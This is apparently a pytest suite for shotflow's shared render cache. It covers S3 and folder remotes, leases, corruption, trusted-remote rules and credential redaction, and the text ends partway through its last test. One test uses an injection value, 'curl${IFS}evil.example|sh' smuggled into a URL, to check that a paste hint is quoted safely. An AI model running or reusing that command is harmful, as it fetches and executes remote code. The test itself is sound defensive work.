"""The team cache (shotflow/remote.py): a real S3 protocol server on loopback (moto's
ThreadedMotoServer) and file:// folders, shotflow run as a user runs it."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import threading
import time
import uuid
from pathlib import Path

import pytest

from shotflow.testing import Emulator

KEY = "sk-test-remote-0123456789"
REGION = "us-east-1"


# -- a local S3 server ----------------------------------------------------------------------------


class S3:
    """One moto server on 127.0.0.1 (in this process), buckets made on demand."""

    def __init__(self):
        import logging

        from moto.server import ThreadedMotoServer

        logging.getLogger("werkzeug").setLevel(logging.WARNING)  # a line per request otherwise

        self.server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
        self.server.start()
        host, port = self.server.get_host_and_port()
        self.endpoint = f"http://{host}:{port}"
        self.env = {
            "AWS_ACCESS_KEY_ID": "test",
            "AWS_SECRET_ACCESS_KEY": "test",
            "AWS_ENDPOINT_URL": self.endpoint,
            "AWS_REGION": REGION,
            "AWS_DEFAULT_REGION": REGION,
        }

    def client(self):
        import boto3

        return boto3.client(
            "s3", endpoint_url=self.endpoint, region_name=REGION, aws_access_key_id="test", aws_secret_access_key="test"
        )

    def bucket(self, create: bool = True) -> str:
        name = f"team-{uuid.uuid4().hex[:10]}"
        if create:
            self.client().create_bucket(Bucket=name)
        return name

    def keys(self, bucket: str, prefix: str = "") -> list[str]:
        pages = self.client().get_paginator("list_objects_v2").paginate(Bucket=bucket, Prefix=prefix)
        return sorted(obj["Key"] for page in pages for obj in page.get("Contents", []))

    def stop(self) -> None:
        self.server.stop()


@pytest.fixture(scope="module")
def s3():
    server = S3()
    yield server
    server.stop()


@pytest.fixture(params=["s3", "file"])
def remote(request, tmp_path):
    """(URL, environment) of an empty team cache: a bucket on the local S3 server, or a folder."""
    if request.param == "s3":
        s3 = request.getfixturevalue("s3")
        return f"s3://{s3.bucket()}/shotflow", dict(s3.env)
    folder = tmp_path / "team-cache"
    folder.mkdir()
    return folder.as_uri(), {}


def shotflow(*args, env: dict | None = None, timeout: float = 120) -> subprocess.CompletedProcess:
    full = {
        k: v
        for k, v in os.environ.items()
        if k not in ("SHOTFLOW_CACHE", "RUNWARE_API_KEY", "SHOTFLOW_REMOTE") and not k.startswith("AWS_")
    }
    full["SHOTFLOW_CONFIG"] = os.devnull  # never the user's own config
    full.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "shotflow", *map(str, args)], env=full, capture_output=True, text=True, timeout=timeout
    )


def clone(story: Path, where: Path) -> Path:
    """What a colleague gets from git: the project's files and its lock, no cache, no renders."""
    shutil.copytree(story.parent, where, ignore=shutil.ignore_patterns(".shotflow", "renders"))
    return where / story.name


def frames(story: Path) -> dict[str, bytes]:
    root = story.parent / "renders"
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*.png"))}


def summary(out: str) -> dict:
    return [json.loads(line) for line in out.splitlines() if line.startswith("{")][-1]


def fast(story: Path) -> None:
    story.write_text(story.read_text() + "\nrunware:\n  retry_base: 0.01\n  poll_initial: 0.05\n  poll_max: 0.2\n")


# -- push and pull ----------------------------------------------------------------------------------


def test_push_then_pull_on_a_fresh_clone_gives_the_same_frames(example, remote, tmp_path):
    url, env = remote
    story = example("lighthouse")
    assert shotflow("render", story, "--remote", "off", env=env).returncode == 0
    pushed = shotflow("push", story, "--remote", url, env=env)
    assert pushed.returncode == 0, pushed.stderr
    lock = json.loads(story.with_suffix(".lock").read_text())
    objects = {o["sha256"] for entry in lock["nodes"].values() for o in entry["outputs"]}
    assert len(objects) == 15  # 12 nodes, some with several takes: every take is shared
    assert "pushed 15 objects and 12 records" in pushed.stdout
    again = shotflow("push", story, "--remote", url, env=env)
    assert again.returncode == 0
    assert "pushed 0 objects and 0 records" in again.stdout and "12 already there" in again.stdout

    other = clone(story, tmp_path / "colleague")
    pulled = shotflow("pull", other, "--remote", url, env=env)
    assert pulled.returncode == 0, pulled.stderr
    assert "pulled 15 objects" in pulled.stdout
    cache = other.parent / ".shotflow" / "objects"
    for digest in objects:  # the same content-addressed layout, every object verified
        data = (cache / digest[:2] / digest[2:]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == digest
    # with the frames pulled, --locked needs nothing more: no remote, nothing drawn
    done = shotflow("render", other, "--locked", "--json", "--remote", "off", env=env)
    assert done.returncode == 0, done.stderr
    assert summary(done.stdout)["cached"] == 12 and summary(done.stdout)["rendered"] == 0
    assert frames(other) == frames(story)
    assert other.with_suffix(".lock").read_bytes() == story.with_suffix(".lock").read_bytes()


def test_the_remote_has_the_local_cache_layout(example, s3):
    bucket = s3.bucket()
    story = example("heist")
    assert shotflow("render", story, "--remote", f"s3://{bucket}/team/cache", env=s3.env).returncode == 0
    keys = s3.keys(bucket)
    local = story.parent / ".shotflow"
    local_objects = sorted(f"team/cache/objects/{p.parent.name}/{p.name}" for p in (local / "objects").glob("*/*"))
    local_actions = sorted(f"team/cache/actions/{p.parent.name}/{p.name}" for p in (local / "actions").glob("*/*"))
    assert [k for k in keys if "/objects/" in k] == local_objects
    assert [k for k in keys if "/actions/" in k] == local_actions
    assert not [k for k in keys if "/leases/" in k]  # preview frames cost nothing: no lease, none left


# -- a fresh clone reproduces every frame, paying nothing -------------------------------------------------


def test_a_fresh_clone_renders_locked_on_runware_from_the_remote_with_nothing_billed(example, s3, tmp_path):
    url = f"s3://{s3.bucket()}/shotflow"
    story = example("lighthouse")
    fast(story)
    with Emulator(api_key=KEY) as emu:
        env = {**s3.env, "RUNWARE_API_URL": emu.url, "RUNWARE_API_KEY": KEY}
        first = shotflow("render", story, "--backend", "runware", "--json", "--remote", url, env=env)
        assert first.returncode == 0, first.stderr
        assert summary(first.stdout)["remote"]["uploaded"] == 12 and emu.stats.billed == 12
        other = clone(story, tmp_path / "ci")
        plan = shotflow("plan", other, "--backend", "runware", "--json", "--remote", url, env=env)
        nodes = json.loads(plan.stdout)["nodes"]
        assert all(n["status"] == "fresh" and n.get("from_remote") for n in nodes)
        assert json.loads(plan.stdout)["cost"] == 0
        assert "from the remote" in shotflow("plan", other, "--backend", "runware", "--remote", url, env=env).stdout
        # no API key at all: nothing could be generated even by mistake
        env_ci = {k: v for k, v in env.items() if k != "RUNWARE_API_KEY"}
        done = shotflow("render", other, "--locked", "--backend", "runware", "--json", "--remote", url, env=env_ci)
        assert done.returncode == 0, done.stderr
        result = summary(done.stdout)
        assert result["cached"] == 12 and result["rendered"] == 0 and result["remote"]["downloaded"] == 12
        assert emu.stats.billed == 12  # 0 tasks billed for the clone
    assert frames(other) == frames(story)
    assert other.with_suffix(".lock").read_bytes() == story.with_suffix(".lock").read_bytes()


def test_without_the_remote_a_fresh_clone_cannot_render_locked_on_runware(example, tmp_path):
    story = example("heist")
    (story.parent / "storyboard.lock").write_text("{}")  # an empty lock: every node unpinned
    done = shotflow("render", story, "--locked", "--backend", "runware")
    assert done.returncode == 2 and "--locked" in done.stderr


# -- paying once across machines --------------------------------------------------------------------------


def test_two_machines_render_the_same_storyboard_at_once_and_each_key_is_paid_once(example, s3, tmp_path):
    url = f"s3://{s3.bucket()}/shotflow"
    story = example("lighthouse")
    fast(story)
    other = clone(story, tmp_path / "machine-b")
    with Emulator(api_key=KEY, latency=0.4) as emu:
        env = {**s3.env, "RUNWARE_API_URL": emu.url, "RUNWARE_API_KEY": KEY}
        cmd = [sys.executable, "-m", "shotflow", "render", "--backend", "runware", "--json", "--remote", url]
        full = {k: v for k, v in os.environ.items() if k not in ("SHOTFLOW_CACHE",) and not k.startswith("AWS_")}
        full.update(env, SHOTFLOW_CONFIG=os.devnull)
        procs = [
            subprocess.Popen([*cmd, str(s)], env=full, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
            for s in (story, other)
        ]
        outs = [p.communicate(timeout=180) for p in procs]
        assert [p.returncode for p in procs] == [0, 0], [o[1][-2000:] for o in outs]
        results = [summary(out) for out, _ in outs]
        lock = json.loads(story.with_suffix(".lock").read_text())
        unique = {entry["key"] for entry in lock["nodes"].values()}
        assert emu.stats.billed == len(unique) == 12  # billed = unique keys, across both machines
        assert sum(r["rendered"] for r in results) == 12
        assert all(r["rendered"] + r["cached"] == 12 for r in results)
    assert frames(other) == frames(story)
    assert other.with_suffix(".lock").read_bytes() == story.with_suffix(".lock").read_bytes()
    assert not s3.keys(url.split("/")[2], "shotflow/leases/")  # every lease released


def test_a_lease_is_taken_once_waited_on_and_taken_over_when_expired(s3, tmp_path):
    from shotflow.remote import Lease, LeaseInfo, Remote

    for url, env in ((f"s3://{s3.bucket()}/p", s3.env), ((tmp_path / "f").as_uri(), {})):
        if url.startswith("file:"):
            (tmp_path / "f").mkdir()
        saved = {k: os.environ.get(k) for k in env}
        os.environ.update(env)
        try:
            a, b = Remote(url, lease_ttl=2.0), Remote(url, lease_ttl=2.0)
            lease = a.take_lease("k" * 64)
            assert isinstance(lease, Lease) and lease.generation == 0
            held = b.take_lease("k" * 64)
            assert isinstance(held, LeaseInfo) and held.owner == a.owner and held.live()
            assert isinstance(a.take_lease("k" * 64), Lease)  # ours already
            time.sleep(2.1)  # A stopped renewing: expired
            taken = b.take_lease("k" * 64)
            assert isinstance(taken, Lease) and taken.generation == 1
            a.renew(lease)
            assert lease.lost  # A learns it was taken over
            b.release(taken)
            # many takers at once: exactly one wins each generation (a create-only write)
            racers = [Remote(url, lease_ttl=30) for _ in range(6)]
            got: list = []
            threads = [threading.Thread(target=lambda r=r, got=got: got.append(r.take_lease("r" * 64))) for r in racers]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            assert sum(isinstance(g, Lease) for g in got) == 1
        finally:
            for k, v in saved.items():
                if v is None:
                    os.environ.pop(k, None)
                else:
                    os.environ[k] = v


def test_a_lease_whose_owner_died_on_this_machine_is_taken_over_at_once(tmp_path):
    from shotflow.remote import Lease, LeaseInfo, Remote

    (tmp_path / "f").mkdir()
    url = (tmp_path / "f").as_uri()
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    a = Remote(url, lease_ttl=600)
    lease = a.take_lease("d" * 64)
    assert isinstance(lease, Lease)
    body = json.loads((tmp_path / "f" / "leases" / ("d" * 64) / "00000000.json").read_text())
    body["pid"] = int(dead.stdout)  # as if a process of this host that has exited held it
    (tmp_path / "f" / "leases" / ("d" * 64) / "00000000.json").write_text(json.dumps(body))
    info = Remote(url).read_lease("d" * 64, 0)
    assert isinstance(info, LeaseInfo) and not info.live()
    assert isinstance(Remote(url).take_lease("d" * 64), Lease)


def test_a_listing_that_fails_while_it_is_read_marks_the_remote_offline(tmp_path, monkeypatch):
    """obstore.list is a lazy stream: the network error comes while it is read, not when it is
    asked for. It must still be the remote going away (Offline, one warning), never an internal
    error that fails the node (as the remote going away mid-render once did, now and then)."""
    import obstore
    from obstore.exceptions import GenericError

    from shotflow.remote import Offline, Remote

    def listing(store, prefix):
        yield [{"path": f"{prefix}00000000.json"}]
        raise GenericError("connection reset while listing")

    (tmp_path / "f").mkdir()
    warned = []
    remote = Remote((tmp_path / "f").as_uri(), warn=warned.append)
    monkeypatch.setattr(obstore, "list", listing)
    with pytest.raises(Offline):
        remote.take_lease("d" * 64)
    assert remote.offline and len(warned) == 1 and "connection reset" in warned[0]


# -- damage and failure ------------------------------------------------------------------------------------


def test_a_corrupt_object_on_the_remote_is_detected_and_never_used(example, remote, tmp_path):
    url, env = remote
    story = example("lighthouse")
    assert shotflow("render", story, "--remote", url, env=env).returncode == 0
    lock = json.loads(story.with_suffix(".lock").read_text())
    digest = lock["nodes"]["arrival/wide"]["picked"]
    path = f"objects/{digest[:2]}/{digest[2:]}"
    if url.startswith("s3://"):
        bucket, prefix = url[5:].split("/", 1)
        import boto3

        client = boto3.client(
            "s3",
            endpoint_url=env["AWS_ENDPOINT_URL"],
            region_name=REGION,
            aws_access_key_id="test",
            aws_secret_access_key="test",
        )
        client.put_object(Bucket=bucket, Key=f"{prefix}/{path}", Body=b"not the frame")

        def remote_bytes():
            return client.get_object(Bucket=bucket, Key=f"{prefix}/{path}")["Body"].read()
    else:
        target = Path(url[len("file://") :]) / path
        target.chmod(0o644)
        target.write_bytes(b"not the frame")

        def remote_bytes():
            return target.read_bytes()

    other = clone(story, tmp_path / "colleague")
    pulled = shotflow("pull", other, "--remote", url, env=env)
    assert pulled.returncode == 1
    assert "not pulled arrival/wide" in pulled.stderr and "corrupt" in pulled.stderr
    local = other.parent / ".shotflow" / "objects" / digest[:2] / digest[2:]
    assert not local.exists()  # never kept
    done = shotflow("render", other, "--json", "--remote", url, env=env)
    assert done.returncode == 0, done.stderr
    assert "corrupt" in done.stderr and "not used" in done.stderr
    assert summary(done.stdout)["rendered"] == 1  # drawn again (preview); everything else came from the remote
    assert frames(other) == frames(story)
    assert hashlib.sha256(remote_bytes()).hexdigest() == digest  # and the good bytes replaced the bad ones


def test_the_remote_going_away_mid_render_loses_nothing(example, tmp_path):
    server = S3()
    bucket = server.bucket()
    url = f"s3://{bucket}/shotflow"
    story = example("lighthouse")
    fast(story)
    try:
        with Emulator(api_key=KEY, latency=0.3) as emu:
            env = {**server.env, "RUNWARE_API_URL": emu.url, "RUNWARE_API_KEY": KEY}
            full = {k: v for k, v in os.environ.items() if k not in ("SHOTFLOW_CACHE",) and not k.startswith("AWS_")}
            full.update(env, SHOTFLOW_CONFIG=os.devnull)
            proc = subprocess.Popen(
                [
                    sys.executable,
                    "-m",
                    "shotflow",
                    "render",
                    str(story),
                    "--backend",
                    "runware",
                    "--json",
                    "--jobs",
                    "2",
                    "--remote",
                    url,
                ],
                env=full,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            deadline = time.monotonic() + 60
            while emu.stats.billed < 3 and time.monotonic() < deadline:
                time.sleep(0.02)
            server.stop()  # the remote goes away in the middle
            out, err = proc.communicate(timeout=120)
            assert proc.returncode == 0, err
            result = summary(out)
            assert result["rendered"] == 12 and result["failed"] == 0
            assert result["remote"]["failed"], result  # what could not be uploaded is reported
            assert err.count("cannot be used") == 1  # one clear warning
            assert emu.stats.billed == 12
            # nothing lost: the local cache has it all; again, nothing is generated
            again = shotflow("render", story, "--backend", "runware", "--json", "--remote", "off", env=env)
            assert again.returncode == 0 and summary(again.stdout)["cached"] == 12 and emu.stats.billed == 12
    finally:
        server.stop()
    # a new remote: push uploads everything, a clone pulls it
    fresh = S3()
    try:
        url2 = f"s3://{fresh.bucket()}/shotflow"
        assert shotflow("push", story, "--remote", url2, env=fresh.env).returncode == 0
        other = clone(story, tmp_path / "later")
        assert shotflow("pull", other, "--remote", url2, env=fresh.env).returncode == 0
        assert shotflow("render", other, "--locked", "--remote", "off", "--backend", "runware").returncode == 0
        assert frames(other) == frames(story)
    finally:
        fresh.stop()


def test_failed_uploads_are_in_the_summary_and_push_retries_them(example, s3):
    bucket = s3.bucket(create=False)  # not there yet: every upload fails
    url = f"s3://{bucket}/shotflow"
    story = example("heist")
    done = shotflow("render", story, "--remote", url, env=s3.env)
    assert done.returncode == 0, done.stderr
    assert "not uploaded to" in done.stdout and "shotflow push" in done.stdout
    assert done.stderr.count("warning:") == 1
    s3.client().create_bucket(Bucket=bucket)
    pushed = shotflow("push", story, "--remote", url, env=s3.env)
    assert pushed.returncode == 0, pushed.stderr
    lock = json.loads(story.with_suffix(".lock").read_text())
    objects = {o["sha256"] for entry in lock["nodes"].values() for o in entry["outputs"]}
    assert f"pushed {len(objects)} objects and 8 records" in pushed.stdout
    assert len([k for k in s3.keys(bucket) if "/actions/" in k]) == 8


@pytest.mark.parametrize("command", ["render", "plan"])
def test_an_unreachable_remote_leaves_the_command_working_with_one_warning(example, command):
    story = example("heist")
    env = {
        "AWS_ACCESS_KEY_ID": "x",
        "AWS_SECRET_ACCESS_KEY": "y",
        "AWS_ENDPOINT_URL": "http://127.0.0.1:9",
        "AWS_REGION": REGION,
    }
    done = shotflow(command, story, "--remote", "s3://nowhere/cache", env=env)
    assert done.returncode == 0, done.stderr
    warnings = [line for line in done.stderr.splitlines() if line.strip()]
    assert len(warnings) == 1 and warnings[0].startswith("warning: the remote s3://nowhere/cache cannot be used")
    assert "local cache only" in warnings[0]
    shutil.rmtree(story.parent / ".shotflow", ignore_errors=True)  # an empty local cache: the remote is asked
    gone = shotflow(command, story, "--remote", "file:///no/such/folder")
    assert gone.returncode == 0 and gone.stderr.count("warning:") == 1 and "does not exist" in gone.stderr
    pushed = shotflow("push", story, "--remote", "s3://nowhere/cache", env=env)
    assert pushed.returncode in (1, 2)


# -- where the remote comes from ------------------------------------------------------------------------------


def test_the_remote_comes_from_the_flag_the_environment_the_user_config_then_the_storyboard(tmp_path, monkeypatch):
    from shotflow import userconfig
    from shotflow.remote import resolve_url

    config = tmp_path / "config.toml"
    monkeypatch.setenv("SHOTFLOW_CONFIG", str(config))
    monkeypatch.setenv("SHOTFLOW_REMOTE", "gs://from-env/x")
    config.write_text('remote = "az://from-config/x"\n')
    userconfig.load_from.cache_clear()
    board = "s3://from-board/x"
    assert resolve_url("file:///from/flag", board) == "file:///from/flag"
    assert resolve_url(None, board) == "gs://from-env/x"
    assert resolve_url("off", board) is None
    monkeypatch.delenv("SHOTFLOW_REMOTE")
    assert resolve_url(None, board) == "az://from-config/x"
    config.write_text('remote = "off"\n')
    userconfig.load_from.cache_clear()
    assert resolve_url(None, board) is None
    config.write_text('trusted_remotes = ["s3://from-board"]\n')  # a storyboard's bucket: once trusted
    userconfig.load_from.cache_clear()
    assert resolve_url(None, board) == board
    assert resolve_url(None, None) is None
    userconfig.load_from.cache_clear()


def test_a_storyboard_names_a_cloud_remote_only_under_a_prefix_its_user_trusts(tmp_path, monkeypatch):
    """Its remote is read and written with the user's own credentials: a stranger's storyboard
    must not make a render write into whatever bucket those reach."""
    from shotflow import userconfig
    from shotflow.errors import ConfigError
    from shotflow.remote import UntrustedRemote, resolve_url

    config = tmp_path / "config.toml"
    monkeypatch.setenv("SHOTFLOW_CONFIG", str(config))
    monkeypatch.delenv("SHOTFLOW_REMOTE", raising=False)

    def trusting(*prefixes) -> None:
        config.write_text(f"trusted_remotes = {list(prefixes)!r}\n".replace("'", '"'))
        userconfig.load_from.cache_clear()

    trusting()
    with pytest.raises(UntrustedRemote) as caught:
        resolve_url(None, "s3://team/shotflow")
    assert "trusted_remotes" in str(caught.value) and str(config) in str(caught.value)
    assert "--remote s3://team/shotflow" in str(caught.value)
    trusting("s3://team")  # a bucket trusts all its prefixes
    assert resolve_url(None, "s3://team/shotflow") == "s3://team/shotflow"
    assert resolve_url(None, "s3://team") == "s3://team"
    for other in ("s3://team-other/x", "gs://team/shotflow", "s3://tea/x"):  # whole parts, one scheme
        with pytest.raises(UntrustedRemote):
            resolve_url(None, other)
    trusting("s3://team/shotflow/")
    assert resolve_url(None, "s3://team/shotflow/act2") == "s3://team/shotflow/act2"
    for other in ("s3://team/other", "s3://team/shotflow/../other", "s3://team/shotflow/%2E%2E/other"):
        with pytest.raises(UntrustedRemote):
            resolve_url(None, other)
    share = tmp_path / "share" / "team"
    (share / "act2").mkdir(parents=True)
    (share / "out").symlink_to(tmp_path)
    trusting(share.as_uri())  # a folder by real path: no way out through .. or a link
    assert resolve_url(None, (share / "act2").as_uri()) == (share / "act2").as_uri()
    for other in (share.as_uri() + "/../../elsewhere", (share / "out").as_uri(), (tmp_path / "share").as_uri()):
        with pytest.raises((UntrustedRemote, ConfigError)):
            resolve_url(None, other, tmp_path / "project")
    assert resolve_url("s3://anything/x", "s3://team/other") == "s3://anything/x"  # a flag is the user's own
    config.write_text('trusted_remotes = "s3://team"\n')
    userconfig.load_from.cache_clear()
    with pytest.raises(ConfigError, match="must be a list"):
        resolve_url(None, "s3://team/x")
    trusting("s3://AKIA:secret@team")
    with pytest.raises(ConfigError, match="never holds credentials"):
        resolve_url(None, "s3://team/x")
    userconfig.load_from.cache_clear()


def test_an_untrusted_storyboard_remote_stops_the_command_before_anything_is_spent(example, tmp_path, monkeypatch):
    """Going on without the team's cache would pay again for what it holds: the user decides."""
    config = tmp_path / "config.toml"
    config.write_text("")
    monkeypatch.setenv("SHOTFLOW_CONFIG", str(config))
    story = example("heist")
    story.write_text(story.read_text() + "\nremote: s3://someone-elses-bucket/cache\n")
    for command in (["render", story], ["plan", story], ["push", story], ["export", story, "--csv", "-"]):
        done = shotflow(*command)  # no credentials are used, no request leaves
        assert done.returncode == 2 and "Traceback" not in done.stderr, (command, done.stderr)
        assert 'trusted_remotes = ["s3://someone-elses-bucket/cache"]' in done.stderr, command
        assert "--remote off" in done.stderr
    assert not (story.parent / "renders").exists()
    done = shotflow("render", story, "--remote", "off")  # the user's way to work without it
    assert done.returncode == 0, done.stderr


def test_a_storyboard_remote_with_a_control_character_or_a_broken_host_is_refused_never_a_crash(tmp_path, monkeypatch):
    """A NUL (spelled %00) no path takes, an escape sequence that would rewrite the warning's
    line on the terminal, an unclosed [ urlsplit cannot parse: a ConfigError naming the URL
    escaped, before any folder or trust is looked at."""
    from shotflow import userconfig
    from shotflow.errors import ConfigError
    from shotflow.remote import resolve_url

    config = tmp_path / "config.toml"
    config.write_text(f'trusted_remotes = ["{(tmp_path / "share").as_uri()}", "s3://team"]\n')
    monkeypatch.setenv("SHOTFLOW_CONFIG", str(config))
    monkeypatch.delenv("SHOTFLOW_REMOTE", raising=False)
    userconfig.load_from.cache_clear()
    for url in (
        (tmp_path / "share").as_uri() + "/x%00y",  # under a trusted folder: realpath would raise
        (tmp_path / "project").as_uri() + "/cache%00",  # inside the project: the same
        "s3://team/x\x1b[2K\rall fine",
        "s3://team/x%1b[2K",
        "s3://[team/x",
    ):
        with pytest.raises(ConfigError) as caught:
            resolve_url(None, url, tmp_path / "project")
        assert "\x1b" not in str(caught.value) and "\0" not in str(caught.value)
    userconfig.load_from.cache_clear()


def test_the_untrusted_remote_hint_quotes_the_url_as_one_toml_entry_and_one_shell_word(tmp_path, monkeypatch):
    """The hint is a line to paste: a storyboard's URL must not add a second entry (a bucket of
    the user's own) to trusted_remotes, nor a command to the shell."""
    import shlex
    import tomllib

    from shotflow import userconfig
    from shotflow.remote import UntrustedRemote, resolve_url

    config = tmp_path / "config.toml"
    config.write_text("")
    monkeypatch.setenv("SHOTFLOW_CONFIG", str(config))
    monkeypatch.delenv("SHOTFLOW_REMOTE", raising=False)
    userconfig.load_from.cache_clear()
    url = 's3://evil/x","s3://your-bucket;curl${IFS}evil.example|sh'
    with pytest.raises(UntrustedRemote) as caught:
        resolve_url(None, url)
    hint = caught.value.hint
    line = hint.removeprefix("add ").partition(" to ")[0]
    assert tomllib.loads(line)["trusted_remotes"] == [url]
    assert shlex.split(hint.partition("or pass --remote ")[2].rpartition("; --remote off")[0]) == [url]
    userconfig.load_from.cache_clear()


def test_the_storyboard_names_a_default_remote_and_the_global_flag_overrides_it(example, tmp_path):
    story = example("heist")
    board, flag = story.parent / "team-cache", tmp_path / "flag"  # a storyboard's folder: inside its project
    board.mkdir()
    flag.mkdir()
    story.write_text(story.read_text() + f"\nremote: {board.as_uri()}\n")
    assert shotflow("validate", story).returncode == 0  # the schema knows the key
    assert shotflow("render", story).returncode == 0
    assert (board / "actions").is_dir()
    shutil.rmtree(story.parent / ".shotflow")
    assert "8 to render, 0 fresh" in shotflow("--remote", flag.as_uri(), "plan", story).stdout
    assert "8 fresh (8 from the remote)" in shotflow("plan", story).stdout


def test_an_export_on_a_fresh_clone_shows_the_frames_the_remote_holds(example, tmp_path):
    """No `pull` first: a board or a shot list of a clone fetches what it shows into the cache."""
    story = example("heist")
    team = tmp_path / "team"
    team.mkdir()
    assert shotflow("render", story, "--remote", team.as_uri()).returncode == 0
    shutil.rmtree(story.parent / ".shotflow")
    shutil.rmtree(story.parent / "renders")
    done = shotflow("--remote", team.as_uri(), "export", story, "--csv", "-")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert len(rows) == 7 and {r["state"] for r in rows} == {"fresh"}  # the shots (the sheet is not in the cut)
    assert all(r["frame"] and Path(story.parent, r["frame"]).is_file() for r in rows)
    assert not (story.parent / "renders").exists()  # the cache, never renders/
    offline = shotflow("--remote", "off", "plan", story)
    assert "8 fresh" in offline.stdout  # kept: the next command needs no remote


def test_a_remote_url_never_holds_credentials(example):
    story = example("heist")
    done = shotflow("render", story, "--remote", "s3://AKIA:secret@bucket/x")
    assert done.returncode == 2 and "never holds credentials" in done.stderr and "Traceback" not in done.stderr
    assert "secret" not in done.stderr and "AKIA" not in done.stderr and "s3://…@bucket/x" in done.stderr
    done = shotflow("render", story, "--remote", "s3://bucket/x?X-Amz-Signature=sig123")
    assert done.returncode == 2 and "sig123" not in done.stderr and "s3://bucket/x?…" in done.stderr
    done = shotflow("plan", story, "--remote", "https://user:pw@example.com/cache")
    assert done.returncode == 2 and "s3://bucket/prefix" in done.stderr and "pw" not in done.stderr
    story.write_text(story.read_text() + "\nremote: s3://AKIA:secret@bucket/x\n")
    done = shotflow("validate", story)
    assert done.returncode == 2 and "secret" not in done.stderr and "s3://…@bucket/x" in done.stderr
    assert "storyboard.yaml:" in done.stderr and "never credentials" in done.stderr


def test_a_damaged_user_config_is_one_clear_error(example, tmp_path):
    config = tmp_path / "config.toml"
    config.write_text("remote = [unclosed\n")
    done = shotflow("render", example("heist"), env={"SHOTFLOW_CONFIG": str(config)})
    assert done.returncode == 2 and "not valid TOML" in done.stderr and "Traceback" not in done.stderr


# -- speed: nothing remote when the local cache answers ---------------------------------------------------------


def _imports(args, env) -> set[str]:
    full = {k: v for k, v in os.environ.items() if k not in ("SHOTFLOW_CACHE",)}
    full.update(env, SHOTFLOW_CONFIG=os.devnull)
    done = subprocess.run(
        [sys.executable, "-X", "importtime", "-m", "shotflow", *map(str, args)],
        env=full,
        capture_output=True,
        text=True,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return {
        line.rsplit("|", 1)[1].strip().split(".")[0]
        for line in done.stderr.splitlines()
        if line.startswith("import time:") and "|" in line
    }


def test_a_remote_is_not_touched_when_the_local_cache_answers(example, tmp_path):
    story = example("heist")
    folder = tmp_path / "team"
    folder.mkdir()
    env = {"SHOTFLOW_REMOTE": folder.as_uri()}
    assert shotflow("render", story, env=env).returncode == 0
    assert (folder / "actions").exists()
    shutil.rmtree(folder)  # the remote is gone: nothing may notice while the local cache answers
    heavy = {"obstore", "boto3", "botocore", "moto"}
    assert not _imports(["render", story], env) & heavy  # the no-op fast path
    (story.parent / "renders").rename(story.parent / "renders-old")  # not a no-op: frames copied out again
    assert not _imports(["render", story], env) & heavy
    result = shotflow("plan", story, env=env)
    assert result.returncode == 0 and "warning" not in result.stderr
    assert not _imports(["--help"], env) & heavy


def test_without_conditional_writes_a_lease_is_looked_for_then_written_and_read_back(tmp_path):
    from shotflow.remote import Lease, LeaseInfo, Remote

    (tmp_path / "f").mkdir()
    url = (tmp_path / "f").as_uri()
    a, b = Remote(url), Remote(url)
    a.conditional = b.conditional = False  # as on a store that ignores If-None-Match
    assert isinstance(a.take_lease("n" * 64), Lease)
    held = b.take_lease("n" * 64)
    assert isinstance(held, LeaseInfo) and held.owner == a.owner


def test_a_storyboard_cannot_name_a_folder_outside_its_project_as_its_remote(example, tmp_path):
    story = example("heist")
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    story.write_text(story.read_text() + f"\nremote: {elsewhere.as_uri()}\n")
    done = shotflow("render", story)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "is a folder outside the project" in done.stderr and "--remote URL" in done.stderr
    assert not any(elsewhere.iterdir())  # nothing was written there
    allowed = shotflow("--allow-path", elsewhere, "render", story)  # allowed for reading, not writing
    assert allowed.returncode == 2 and "is a folder outside the project" in allowed.stderr
    assert not any(elsewhere.iterdir())
    assert shotflow("--remote", elsewhere.as_uri(), "plan", story).returncode == 0  # named by the user: fine


def test_a_file_on_the_remote_larger_than_any_frame_is_not_read_past_the_bound(tmp_path, monkeypatch):
    """A remote a storyboard names may serve anything: nothing is read whole past MAX_REMOTE_BYTES
    (a frame that large is damaged), nor a record or lease past RECORD_BYTES (unreadable: JSON of
    tiny values takes ~25 times its bytes in memory)."""
    from shotflow import remote as remote_module
    from shotflow.remote import CorruptRemote, Remote

    folder = tmp_path / "team"
    digest = "ab" * 32
    (folder / "objects" / "ab").mkdir(parents=True)
    (folder / "objects" / "ab" / digest[2:]).write_bytes(b"x" * 4096)
    (folder / "actions" / "cd").mkdir(parents=True)
    (folder / "actions" / "cd" / ("cd" * 32 + ".json")).write_bytes(b" " * 4096)
    monkeypatch.setattr(remote_module, "MAX_REMOTE_BYTES", 1024)
    monkeypatch.setattr(remote_module, "RECORD_BYTES", 2048)  # JSON: a bound of its own, 16 MB
    read = []
    real = remote_module._read_bounded
    monkeypatch.setattr(remote_module, "_read_bounded", lambda result, limit: read.append(limit) or real(result, limit))
    team = Remote(folder.as_uri())
    with pytest.raises(CorruptRemote):
        team.get_object(digest)
    assert team.get_action("cd" * 32) is None
    assert read == [1024, 2048] and team.offline is None  # bounded, and the remote stays usable


def test_an_s3_remote_is_read_no_further_than_the_bounds_either(s3, monkeypatch):
    """The same bounds on a real S3 protocol server (obstore's S3 answers announce their size)."""
    from shotflow import remote as remote_module
    from shotflow.remote import CorruptRemote, Remote

    for name, value in s3.env.items():
        monkeypatch.setenv(name, value)
    bucket, digest, key = s3.bucket(), "ab" * 32, "cd" * 32
    client = s3.client()
    client.put_object(Bucket=bucket, Key=f"p/objects/ab/{digest[2:]}", Body=b"x" * 4096)
    client.put_object(Bucket=bucket, Key=f"p/actions/cd/{key}.json", Body=b" " * 4096)
    client.put_object(Bucket=bucket, Key=f"p/leases/{key}/00000000.json", Body=b" " * 4096)
